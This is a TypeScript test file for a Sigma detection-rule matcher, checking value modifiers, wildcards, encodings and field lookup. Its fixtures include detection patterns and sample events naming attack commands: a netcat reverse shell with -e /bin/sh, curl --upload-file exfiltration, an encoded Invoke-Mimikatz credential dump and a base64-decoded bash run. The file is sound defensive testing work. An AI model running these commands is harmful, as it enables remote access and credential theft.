// Every Sigma value modifier (Sigma Modifiers Appendix 2.1) and the value rules of the Sigma Rules Specification:
// wildcards and escapes, case-insensitivity by default, lists OR and maps AND, null and empty values, keywords.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { failure, matches, rule } from './sigma-fixture.ts';

const sel = (body: string, cond = 'selection') => `  selection:\n${body}\n  condition: ${cond}\n`;

test('plain values are case-insensitive whole-value matches', () => {
  const r = rule(sel("    Image: '/usr/bin/whoami'"));
  assert.ok(matches(r, { fields: { Image: '/usr/bin/whoami' } }));
  assert.ok(matches(r, { fields: { Image: '/USR/BIN/WhoAmI' } }));
  assert.ok(!matches(r, { fields: { Image: '/usr/bin/whoami2' } }));
  assert.ok(!matches(r, { fields: { Other: '/usr/bin/whoami' } }), 'absent field');
});

test('numbers match their source text; YAML 1.2 does not turn 0755 or 0x17 into other numbers', () => {
  const r = rule(sel('    EventID: 4625\n    Mode: 0755\n    Flags: 0x17'));
  assert.ok(matches(r, { fields: { EventID: '4625', Mode: '0755', Flags: '0x17' } }));
  assert.ok(!matches(r, { fields: { EventID: '4625', Mode: '755', Flags: '0x17' } }));
});

test('contains, startswith, endswith', () => {
  assert.ok(matches(rule(sel("    CommandLine|contains: 'wget '")), { fields: { CommandLine: 'sudo WGET http://x' } }));
  assert.ok(!matches(rule(sel("    CommandLine|contains: 'wget '")), { fields: { CommandLine: 'curl http://x' } }));
  const sw = rule(sel("    Image|startswith: '/tmp/'"));
  assert.ok(matches(sw, { fields: { Image: '/tmp/x' } }));
  assert.ok(!matches(sw, { fields: { Image: '/var/tmp/x' } }));
  const ew = rule(sel("    Image|endswith: '/ls'"));
  assert.ok(matches(ew, { fields: { Image: '/bin/ls' } }));
  assert.ok(!matches(ew, { fields: { Image: '/bin/lsblk' } }));
});

test('cased makes a match case-sensitive', () => {
  const r = rule(sel("    CommandLine|contains|cased: ' -O '"));
  assert.ok(matches(r, { fields: { CommandLine: 'wget -O out' } }));
  assert.ok(!matches(r, { fields: { CommandLine: 'wget -o out' } }));
});

test('a list is OR; with all it is AND', () => {
  const any = rule(sel("    CommandLine|contains:\n      - 'nc '\n      - 'ncat '"));
  assert.ok(matches(any, { fields: { CommandLine: 'ncat -l' } }));
  const all = rule(sel("    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'"));
  assert.ok(matches(all, { fields: { CommandLine: 'nc 1.2.3.4 80 -e /bin/sh' } }));
  assert.ok(!matches(all, { fields: { CommandLine: 'nc 1.2.3.4 80 -e /bin/bash' } }));
});

test('a map is AND; a list of maps is OR', () => {
  const and = rule(sel("    Image|endswith: '/curl'\n    CommandLine|contains: '--upload-file'"));
  assert.ok(matches(and, { fields: { Image: '/usr/bin/curl', CommandLine: 'curl --upload-file x' } }));
  assert.ok(!matches(and, { fields: { Image: '/usr/bin/wget', CommandLine: 'curl --upload-file x' } }));
  const or = rule(sel("    - Image|endswith: '/curl'\n    - CommandLine|contains: '--upload-file'"));
  assert.ok(matches(or, { fields: { Image: '/usr/bin/wget', CommandLine: 'x --upload-file' } }));
});

test('wildcards * and ?, and the escapes \\*, \\?, \\\\ (Sigma Rules Specification, Escape Character)', () => {
  const star = rule(sel("    Image: '/usr/*/python*'"));
  assert.ok(matches(star, { fields: { Image: '/usr/local/bin/python3.11' } }));
  assert.ok(!matches(star, { fields: { Image: '/opt/python' } }));
  const one = rule(sel("    Image: 'prog?.exe'"));
  assert.ok(matches(one, { fields: { Image: 'progA.exe' } }));
  assert.ok(!matches(one, { fields: { Image: 'progAB.exe' } }));
  const lit = rule(sel("    Name: 'a\\*b\\?c'"));
  assert.ok(matches(lit, { fields: { Name: 'a*b?c' } }));
  assert.ok(!matches(lit, { fields: { Name: 'axxbyc' } }));
  // a single backslash before an ordinary character is itself; \\ is one backslash; \\* is a backslash then a wildcard
  const path = rule(sel("    Path: 'C:\\Windows\\\\*'"));
  assert.ok(matches(path, { fields: { Path: 'C:\\Windows\\System32' } }));
  const three = rule(sel("    Path: 'x\\\\\\*'"));
  assert.ok(matches(three, { fields: { Path: 'x\\*' } }));
  assert.ok(!matches(three, { fields: { Path: 'x\\abc' } }));
});

test('re: case-sensitive, unanchored search, with the i, m and s flags', () => {
  const r = rule(sel("    CommandLine|re: '\\s-O\\s'"));
  assert.ok(matches(r, { fields: { CommandLine: 'wget -O /tmp/x' } }));
  assert.ok(!matches(r, { fields: { CommandLine: 'wget -o /tmp/x' } }));
  assert.ok(matches(rule(sel("    CommandLine|re|i: '\\s-O\\s'")), { fields: { CommandLine: 'wget -o /tmp/x' } }));
  const multi = { CommandLine: 'first\nsecond line' };
  assert.ok(!matches(rule(sel("    CommandLine|re: '^second'")), { fields: multi }));
  assert.ok(matches(rule(sel("    CommandLine|re|m: '^second'")), { fields: multi }));
  assert.ok(!matches(rule(sel("    CommandLine|re: 'first.second'")), { fields: multi }));
  assert.ok(matches(rule(sel("    CommandLine|re|s: 'first.second'")), { fields: multi }));
  assert.match(failure(sel("    CommandLine|re: 'a(?=b)'")), /rule\.yml:8: test rule: selection: CommandLine\|re: regular expression "a\(\?=b\)" is not supported by RE2/);
  assert.match(failure(sel("    CommandLine|i: 'x'")), /modifier "i" is a flag of "re" and must follow it/);
});

test('base64 encodes the value (case-sensitive, as case changes the bytes)', () => {
  // "/bin/bash" → L2Jpbi9iYXNo
  const r = rule(sel("    CommandLine|base64|contains: '/bin/bash'"));
  assert.ok(matches(r, { fields: { CommandLine: 'echo L2Jpbi9iYXNo | base64 -d' } }));
  assert.ok(!matches(r, { fields: { CommandLine: 'echo l2jpbi9iyxnO | base64 -d' } }));
  assert.match(failure(sel("    CommandLine|base64: 'a*b'")), /base64 cannot encode a value with wildcards/);
});

test('base64offset finds the value at any offset inside longer encoded text', () => {
  const r = rule(sel("    CommandLine|base64offset|contains: 'whoami'"));
  for (const prefix of ['', 'a', 'ab', 'abc', 'echo hi; ']) {
    const encoded = Buffer.from(`${prefix}whoami && id`).toString('base64');
    assert.ok(matches(r, { fields: { CommandLine: `bash -c "$(echo ${encoded} | base64 -d)"` } }), `prefix ${JSON.stringify(prefix)}`);
  }
  assert.ok(!matches(r, { fields: { CommandLine: Buffer.from('who am i').toString('base64') } }));
});

test('utf16le / wide / utf16be / utf16, alone and under base64offset (PowerShell -EncodedCommand)', () => {
  const wide = rule(sel("    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'"));
  for (const prefix of ['', 'x', 'IEX; ']) {
    const enc = Buffer.from(`${prefix}Invoke-Mimikatz -DumpCreds`, 'utf16le').toString('base64');
    assert.ok(matches(wide, { fields: { CommandLine: `powershell -enc ${enc}` } }), `prefix ${JSON.stringify(prefix)}`);
  }
  const le = rule(sel("    Data|utf16le|contains: 'cmd'"));
  assert.ok(matches(le, { fields: { Data: 'xx' + Buffer.from('cmd', 'utf16le').toString('latin1') } }));
  assert.ok(!matches(le, { fields: { Data: 'cmd' } }));
  const be = rule(sel("    Data|utf16be: 'cmd'"));
  assert.ok(matches(be, { fields: { Data: '\x00c\x00m\x00d' } }));
  const bom = rule(sel("    Data|utf16|base64: 'cmd'"));
  assert.ok(matches(bom, { fields: { Data: Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString('base64') } }));
});

test('windash: a command-line dash may be written -, /, en dash, em dash or horizontal bar', () => {
  const r = rule(sel("    CommandLine|windash|contains: ' -exec '"));
  for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(matches(r, { fields: { CommandLine: `find . ${d}exec rm {} ;` } }), d);
  assert.ok(!matches(r, { fields: { CommandLine: 'find . +exec rm' } }));
  // a dash between word characters is not a flag: not permuted
  const w = rule(sel("    CommandLine|windash|contains: 'x-y'"));
  assert.ok(!matches(w, { fields: { CommandLine: 'x/y' } }));
});

test('cidr: IPv4 and IPv6 networks; a bad network fails the rule', () => {
  const r = rule(sel("    dst_ip|cidr:\n      - '10.0.0.0/8'\n      - 'fc00::/7'"));
  assert.ok(matches(r, { fields: { dst_ip: '10.1.2.3' } }));
  assert.ok(matches(r, { fields: { dst_ip: 'fd12::1' } }));
  assert.ok(!matches(r, { fields: { dst_ip: '11.0.0.1' } }));
  assert.ok(!matches(r, { fields: { dst_ip: 'not an ip' } }));
  assert.match(failure(sel("    dst_ip|cidr: '10.0.0.300/8'")), /cidr: "10.0.0.300\/8" is not a network in CIDR notation/);
});

test('exists: true and false', () => {
  const yes = rule(sel('    PasswordLastSet|exists: true'));
  assert.ok(matches(yes, { fields: { PasswordLastSet: '' } }), 'present though empty');
  assert.ok(!matches(yes, { fields: {} }));
  const no = rule(sel('    PasswordLastSet|exists: false'));
  assert.ok(matches(no, { fields: {} }));
  assert.match(failure(sel("    X|exists: 'yes'")), /exists expects true or false/);
});

test('expand: placeholders from the mapping file, with \\% for a literal percent', () => {
  const mapping = 'placeholders:\n  Administrators: [root, "adm_*"]\n';
  const r = rule(sel("    User|expand: '%Administrators%'"), { mapping });
  assert.ok(matches(r, { fields: { User: 'root' } }));
  assert.ok(matches(r, { fields: { User: 'adm_jane' } }));
  assert.ok(!matches(r, { fields: { User: 'jane' } }));
  const lit = rule(sel("    Val|expand: '\\%plain%Administrators%'"), { mapping });
  assert.ok(matches(lit, { fields: { Val: '%plainroot' } }));
  assert.match(failure(sel("    User|expand: '%Servers%'"), { mapping }), /placeholder %Servers% has no values \(define it under placeholders: in the mapping file\)/);
  // without expand a placeholder is a literal value
  assert.ok(matches(rule(sel("    User: '%Administrators%'")), { fields: { User: '%administrators%' } }));
});

test('fieldref compares two fields of the event (and neq negates it)', () => {
  const r = rule(sel('    userIdentity.arn|fieldref: requestParameters.userName'));
  assert.ok(matches(r, { fields: { 'userIdentity.arn': 'alice', 'requestParameters.userName': 'ALICE' } }));
  assert.ok(!matches(r, { fields: { 'userIdentity.arn': 'alice', 'requestParameters.userName': 'bob' } }));
  assert.ok(!matches(r, { fields: { 'userIdentity.arn': 'alice' } }));
  const ne = rule(sel('    a|fieldref|neq: b'));
  assert.ok(matches(ne, { fields: { a: '1', b: '2' } }));
  assert.ok(!matches(ne, { fields: { a: '1', b: '1' } }));
});

test('lt, lte, gt, gte compare numbers; a non-number field never matches', () => {
  const cases: [string, string, boolean][] = [
    ['lt', '9', true], ['lt', '10', false], ['lte', '10', true], ['gt', '11', true], ['gt', '10', false], ['gte', '10', true], ['gte', 'ten', false],
  ];
  for (const [op, v, want] of cases) assert.equal(matches(rule(sel(`    Count|${op}: 10`)), { fields: { Count: v } }), want, `${op} ${v}`);
  assert.match(failure(sel("    Count|gt: 'ten'")), /\|gt expects a number, got "ten"/);
});

test('neq: the field differs from every value (an absent field differs too)', () => {
  const r = rule(sel("    User|neq:\n      - root\n      - admin"));
  assert.ok(matches(r, { fields: { User: 'jane' } }));
  assert.ok(!matches(r, { fields: { User: 'ROOT' } }));
  assert.ok(matches(r, { fields: {} }));
});

test('time parts: hour, day, month... of a timestamp field, compared like numbers', () => {
  const night = rule(sel('    eventTime|hour|gte: 22'));
  assert.ok(matches(night, { fields: { eventTime: '2024-05-01T23:15:00Z' } }));
  assert.ok(!matches(night, { fields: { eventTime: '2024-05-01T08:15:00Z' } }));
  assert.ok(matches(rule(sel('    eventTime|month: 5')), { fields: { eventTime: '2024-05-01T08:15:00Z' } }));
});

test("null means the field is absent; '' means present and empty", () => {
  const n = rule(sel('    PasswordLastSet: null'));
  assert.ok(matches(n, { fields: {} }));
  assert.ok(!matches(n, { fields: { PasswordLastSet: '' } }));
  const e = rule(sel("    PasswordLastSet: ''"));
  assert.ok(matches(e, { fields: { PasswordLastSet: '' } }));
  assert.ok(!matches(e, { fields: {} }));
});

test('keywords search the line: a list is OR, |all is AND, case-insensitive, wildcards inside', () => {
  const kw = rule('  keywords:\n    - \'unexpected internal error\'\n    - \'Corrupted MAC on input\'\n  condition: keywords\n');
  assert.ok(matches(kw, { line: 'sshd[123]: fatal: CORRUPTED mac on input.' }));
  assert.ok(!matches(kw, { line: 'sshd[123]: Accepted password for root' }));
  const all = rule("  keywords:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '\n  condition: keywords\n");
  assert.ok(matches(all, { line: 'Set-OabVirtualDirectory -ExternalUrl http://x' }));
  assert.ok(!matches(all, { line: 'Set-OabVirtualDirectory' }));
  const wild = rule("  keywords:\n    - 'GET /*.git/'\n  condition: keywords\n");
  assert.ok(matches(wild, { line: '10.0.0.1 - - "GET /app/.git/config HTTP/1.1" 200' }));
});

test('fields are looked up in structured metadata, then stream labels, then parsed fields', () => {
  const r = rule(sel("    user: 'meta'"));
  assert.ok(matches(r, { fields: { user: 'meta' }, labels: { user: 'label' }, parsed: { user: 'parsed' } }));
  assert.ok(!matches(r, { fields: { user: 'other' }, labels: { user: 'meta' } }));
  assert.ok(matches(rule(sel("    user: 'label'")), { labels: { user: 'label' }, parsed: { user: 'parsed' } }));
  assert.ok(matches(rule(sel("    user: 'parsed'")), { parsed: { user: 'parsed' } }));
  // names a plain object answers from its prototype are not fields
  assert.ok(!matches(rule(sel("    constructor|exists: true")), { fields: {} }));
});

test('unknown modifiers and impossible combinations fail the rule with the reason', () => {
  assert.match(failure(sel("    X|contain: 'a'")), /unknown value modifier "contain"/);
  assert.match(failure(sel("    X|re|contains: 'a'")), /"contains" cannot follow "re"/);
  assert.match(failure(sel("    X|cidr|re: 'a'")), /modifiers re and cidr cannot be combined|modifiers cidr and re cannot be combined/);
});
